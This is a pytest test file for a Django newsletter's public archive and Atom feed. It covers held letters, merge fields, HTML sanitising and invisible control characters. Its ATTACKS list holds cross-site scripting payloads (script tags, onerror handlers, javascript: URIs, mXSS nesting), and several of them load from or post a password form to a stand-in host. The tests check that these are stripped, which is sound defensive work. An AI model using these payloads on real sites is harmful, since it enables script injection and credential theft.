"""What everybody may read: the letters that went out, without anything in them that could act."""

import re
from datetime import timedelta
from xml.etree import ElementTree

import pytest
from django.db.models import F

from delivery.models import Edition, Newsletter
from publishing.content.edition_content import Content
from publishing.content.public_html import sanitise_html
from publishing.models import Issue
from publishing.publish.publish import publish
from tests.publishing.content_factory import letter

pytestmark = pytest.mark.django_db(transaction=True)

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def print_letter(author):
    """Publish a letter; its page in the archive is at the address that comes back."""

    def publish_it(*, hold_s=0, **content):
        key = f"k{Edition.objects.count()}"
        edition = publish(author.pk, key, letter(**content), hold_s=hold_s).edition
        return f"/archive/{Issue.objects.get(pk=edition.issue_id).slug}/"

    return publish_it


def test_a_published_letter_stands_in_the_archive_at_the_address_that_its_mail_names(
    anybody, print_letter
):
    address = print_letter(title="On the patience of herons")

    page = anybody.get(address)

    assert page.status == 200
    assert Edition.objects.get().archive_url == f"https://letter.example.org{address}"
    assert page.html.count("<h1") == 1
    assert "On the patience of herons" in page.title
    assert "Edith Marlow" in page.words
    assert anybody.get("/archive/no-such-letter/").status == 404
    listed = anybody.get("/archive/")
    assert f'href="{address}"' in listed.html


def test_a_letter_that_is_still_held_is_not_shown_because_it_can_still_be_called_back(
    anybody, print_letter
):
    address = print_letter(title="Not yet", hold_s=3600)

    assert anybody.get(address).status == 404
    assert "Not yet" not in anybody.get("/archive/").words
    assert "Not yet" not in anybody.get("/archive/feed.xml").html

    Edition.objects.update(
        published_at=F("published_at") - timedelta(hours=2),
        held_until=F("held_until") - timedelta(hours=2),
    )
    assert anybody.get(address).status == 200


def test_merge_fields_are_filled_for_nobody_in_particular(anybody, print_letter):
    address = print_letter(
        title="For {{ name|you }}",
        html="<p>Dear {{ name|reader }}, <i>{{ name }}{{ email }}</i>"
        '<a href="{{ unsubscribe_url }}">leave</a> <a href="{{ archive_url }}">web</a></p>',
    )

    page = anybody.get(address)

    assert "For you" in page.title
    assert "Dear reader, <i></i>" in page.html
    # It leads to unsubscribing, though nobody knows who reads the page.
    assert 'href="https://letter.example.org/unsubscribe/"' in page.html
    assert "Email me the link" in anybody.get("/unsubscribe/").words
    assert f'href="https://letter.example.org{address}"' in page.html
    assert "{{" not in page.html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(https://spy.example/alert(1))'>x</p>",
    "<style>@import 'https://spy.example/alert(1)'</style>",
    "<iframe src='https://spy.example/alert(1)'></iframe>",
    "<form action='https://spy.example/alert(1)'><input name=password></form>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<meta http-equiv=refresh content='0;url=https://spy.example/alert(1)'>",
    "<base href='https://spy.example/alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    # Acts only once a character that nobody sees is gone.
    "<a href='java&#7;script:alert(1)'>x</a><img src='ht&#11;tp://spy.example/'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_letter_can_act_on_the_site(attack):
    body = sanitise_html(f"<p>before</p>{attack}<p>after</p>")

    assert "alert(1)" not in body
    assert "spy.example" not in body
    assert not re.search(r"<(script|style|iframe|form|input|svg|meta|base|math)\b|\son\w+=", body)
    assert "before" in body


def test_a_page_and_the_feed_show_no_part_of_a_letter_that_could_act(anybody, print_letter):
    for address in (print_letter(html=f"<p>before</p>{''.join(ATTACKS)}"), "/archive/feed.xml"):
        page = anybody.get(address)
        assert "before" in page.html
        assert "alert(1)" not in page.html


def test_what_a_letter_needs_comes_through(anybody, print_letter):
    page = anybody.get(
        print_letter(
            html='<p class="open fault">A</p><h2>B</h2><ul><li>c</li></ul>'
            '<table><tr><th scope="col">d</th><td class="num">1</td></tr></table>'
            '<img src="https://example.org/a.png" alt="e"><img src="/static/a.png" alt="f">'
            '<img src="data:image/png;base64,AAAA" alt="g"><img src="http://example.org/a.png">'
            '<a href="https://example.org/">h</a><a href="mailto:a@example.org">i</a>'
        )
    )

    for kept in (
        '<p class="open">A</p>',
        "<h2>B</h2>",
        "<li>c</li>",
        'alt="e"',
        '<th scope="col">d</th>',
        '<td class="num">1</td>',
        'src="https://example.org/a.png"',
        'src="/static/a.png"',
        'src="data:image/png;base64,AAAA"',
        '<a href="https://example.org/" rel="noopener noreferrer nofollow">h</a>',
        'href="mailto:a@example.org"',
    ):
        assert kept in page.html
    assert 'src="http://example.org' not in page.html


def test_a_page_has_one_heading_of_the_first_rank_whatever_the_letter_has(anybody, print_letter):
    page = anybody.get(
        print_letter(
            title="Herons", html="<h1>  herons </h1><p>x</p><h1 lang=pt>Garças</h1><h2>Third</h2>"
        )
    )

    assert page.html.count("<h1") == 1
    assert '<h2 lang="pt">Garças</h2>' in page.html
    assert "herons </h" not in page.html


def test_a_letter_of_text_alone_is_shown_in_paragraphs_with_links(anybody, print_letter):
    page = anybody.get(
        print_letter(
            html="", text="Dear {{ name|reader }},\nhello <b>.\n\nSee https://example.org/x"
        )
    )

    assert "<p>Dear reader,<br>hello &lt;b&gt;.</p>" in page.html
    assert '<a href="https://example.org/x" rel="noopener noreferrer nofollow">' in page.html


def test_the_date_is_that_of_the_newsletters_zone_and_the_language_is_named(anybody, print_letter):
    Newsletter.objects.update_or_create(
        pk=1, defaults={"time_zone": "Pacific/Kiritimati", "language": "pt-PT"}
    )
    address = print_letter()
    day = Edition.objects.get().published_at.astimezone(Newsletter.objects.get().zone)

    page = anybody.get(address)

    assert f'datetime="{day:%Y-%m-%d}"' in page.html
    assert f"{day:%A} {day.day} {day:%B %Y}" in page.words
    assert '<div class="body" lang="pt-PT">' in page.html


# A word processor's line break, a page break, a bell, a terminal's colour, what is no character.
UNSEEN = ("\x0b", "\x0c", "\x07", "\x1b", "\x7f", "\ufffe", "\uffff")
AS_ENTITIES = ("&#11;", "&#12;", "&#7;", "&#x1b;", "&#xfffe;", "&#0;", "&#xd800;")


def entries_of(page):
    assert page.status == 200
    feed = ElementTree.fromstring(page.html)  # noqa: S314 -- our own feed
    return [entry.find(f"{ATOM}content").text for entry in feed.findall(f"{ATOM}entry")]


@pytest.mark.parametrize("part", ["html", "text"])
def test_a_character_that_nobody_sees_never_ends_the_feed_for_everybody(
    anybody, print_letter, part
):
    for unseen in UNSEEN + AS_ENTITIES:
        content = {"html": "", "text": "", part: f"Before {unseen} after"}
        address = print_letter(title=f"Herons{unseen}", **content)
        assert anybody.get(address).status == 200

    for summary in entries_of(anybody.get("/archive/feed.xml")):
        assert "Before" in summary
        assert "after" in summary


def test_a_letter_that_was_stored_with_such_a_character_does_not_end_the_feed_either(
    anybody, author
):
    stored = Content("On\x07 herons", "<p>They\x0bwait\x1b.</p>", "")
    publish(author.pk, "k", stored, hold_s=0)
    Newsletter.objects.update(name="Hedge\x07row", tagline="Slow\x0bly")

    page = anybody.get("/archive/feed.xml")

    assert entries_of(page) == ["<p>They wait.</p>"]
    assert "They\nwait." in page.answer.content.decode()
    assert "<title>On herons</title>" in page.html
